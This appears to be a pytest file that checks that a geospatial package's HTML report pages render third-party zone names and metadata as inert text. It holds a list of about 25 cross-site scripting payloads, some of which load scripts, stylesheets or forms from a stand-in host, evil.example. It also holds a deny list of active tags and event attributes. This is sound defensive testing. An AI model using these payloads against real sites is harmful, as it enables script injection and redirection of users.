"""Pages of zones by somebody else: what their map says is shown as text, wherever it stands, and never runs."""

from __future__ import annotations

from collections import Counter
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyogrio
import pytest
import shapely

import locentropy as le
from locentropy.release.release import Release
from locentropy.release.report.page import page
from locentropy.release.statement import About
from tests.places.maps import square

from .browsing import chromium, opened
from .making import HOSTILE, Parsed

PAYLOADS = (
    *HOSTILE,
    "<script src=//evil.example/x.js></script>",
    "</title><script>alert(5)</script>",
    "</style><script>alert(6)</script>",
    "</textarea><script>alert(7)</script>",
    "</template><script>alert(8)</script>",
    "<iframe srcdoc='<script>parent.alert(9)</script>'>",
    "<iframe src=javascript:alert(10)>",
    "<a href=javascript:alert(11)>here</a>",
    "<body onload=alert(12)>",
    "<details open ontoggle=alert(13)>",
    "<video><source onerror=alert(14)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(16)>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button>send</button></form>",
    "<object data=//evil.example/x></object>",
    "' onmouseover='alert(17)",
    '" autofocus onfocus="alert(18)',
    '";alert(19)//',
    "`-alert(20)-`",
    "--><script>alert(21)</script><!--",
    "<svg><animate onbegin=alert(22) attributeName=x dur=1s>",
    "\ufeff<scr\u0131pt>alert(23)</scr\u0131pt>",
)
"""Of ids and names there is one each; all stand in the names of their columns and the layer, and in the owner's words."""

FIELDS = ("curator", "description", "intended_use", "region")


def printable(text: str) -> str:
    """What may be an id, or said by the owner."""
    return "".join(each for each in text if each.isprintable()).strip()


def released(folder: Path, words: str, *, prefix: str = "") -> Release:
    """A release of zones whose ids and names are all payloads, and whose other texts are these words."""
    side = 6
    boxes = [shapely.Polygon(square(at % side, at // side)) for at in range(len(PAYLOADS))]
    ids = [f"{prefix}{printable(each)}" for each in PAYLOADS]
    names = [f"{prefix}{each}" for each in PAYLOADS]
    columns = [f"id {words}", f"name {words}"]
    pyogrio.raw.write(
        folder / "map.gpkg",
        shapely.to_wkb(np.array(boxes)),
        [np.array(each, dtype=object) for each in (ids, names)],
        columns,
        geometry_type="Polygon",
        crs="EPSG:4326",
        layer=f"layer {words}",
    )
    zones = le.Zones(
        folder / "map.gpkg", id=columns[0], name=columns[1], layer=f"layer {words}", provenance=words
    )
    rng = np.random.default_rng(4)
    at = rng.integers(0, len(boxes), 3_000)
    users = [f"u{each}" for each in rng.integers(0, 30 + 10 * at)]
    table = pa.table({"user": users, "lat": at // side + 0.5, "lon": at % side + 0.5})
    about = About(title=words[:300], **dict.fromkeys(FIELDS, words))
    mechanism = le.Moments(epsilon=8.0, max_locations=9, max_visits=9)
    return le.publish(le.Visits(table), mechanism, zones, ledger=None, about=about)


def inert(parsed: Parsed) -> None:
    """Nothing in a page but what this package puts there could load, run or lead anywhere."""
    tags = Counter(tag for tag, _ in parsed.elements)
    active = (
        "img",
        "iframe",
        "object",
        "embed",
        "base",
        "form",
        "video",
        "source",
        "math",
        "animate",
    )
    assert not {tag: tags[tag] for tag in active if tags[tag]}
    assert len(parsed.scripts) == 3
    for tag, attributes in parsed.elements:
        assert not [
            name for name in attributes if name.startswith("on") or name in ("src", "srcdoc", "autofocus")
        ]
        assert attributes.get("href", "#").startswith(("#", "data:,")), tag


def test_there_are_as_many_payloads_as_were_tried_on_other_pages() -> None:
    assert len(set(PAYLOADS)) >= 31


@pytest.mark.parametrize("words", PAYLOADS)
def test_each_field_of_a_page_of_zones_shows_texts_as_texts(tmp_path: Path, words: str) -> None:
    made = released(tmp_path, printable(words))
    parsed = Parsed(page(made))
    inert(parsed)
    assert set(PAYLOADS) == set(parsed.data["columns"]["name"])
    assert parsed.texts["title"][0] == printable(words)
    inert(Parsed(page(made.with_language("de"))))


def test_what_is_not_escaped_would_be_noticed(tmp_path: Path) -> None:
    drawn = page(released(tmp_path, "x"))
    for payload in PAYLOADS[:4]:
        with pytest.raises(AssertionError):
            inert(Parsed(drawn.replace(b"<main>", b"<main>" + payload.encode())))


@pytest.mark.slow
@pytest.mark.parametrize("size", ["desktop", "phone"])
def test_nothing_runs_in_a_browser(tmp_path: Path, size: str) -> None:
    made = released(tmp_path, printable("".join(PAYLOADS)), prefix="z")
    (tmp_path / "page.html").write_bytes(page(made))
    with chromium() as browser, opened(browser, tmp_path / "page.html", size) as view:
        ran: list[Any] = []
        view.page.on("dialog", lambda dialog: ran.append(dialog) or dialog.dismiss())
        view.page.reload()
        shown = view.page.locator("#places tbody td.name bdi:not(small bdi)").all_text_contents()
        assert len(shown) == min(len(PAYLOADS), 25)
        tip = view.page.locator("#tip strong")
        for at, name in enumerate(shown):
            view.page.locator("#places tbody tr").nth(at).locator("button").click()
            assert tip.text_content() == name
        view.page.locator("#next").click()
        shown += view.page.locator("#places tbody td.name bdi:not(small bdi)").all_text_contents()
        assert set(shown) == {f"z{each}" for each in PAYLOADS}
        view.page.get_by_label("Find a zone").fill("<script>")
        view.page.locator("th.name button").click()
        view.point(view.canvas["width"] / 2, view.canvas["height"] / 2)
        assert view.page.evaluate("document.scripts.length") == 3
        assert (
            view.page.evaluate(
                "document.querySelectorAll('img, iframe, object, embed, base, form, video').length"
            )
            == 0
        )
        assert (view.said, view.asked, ran) == ([], [], [])
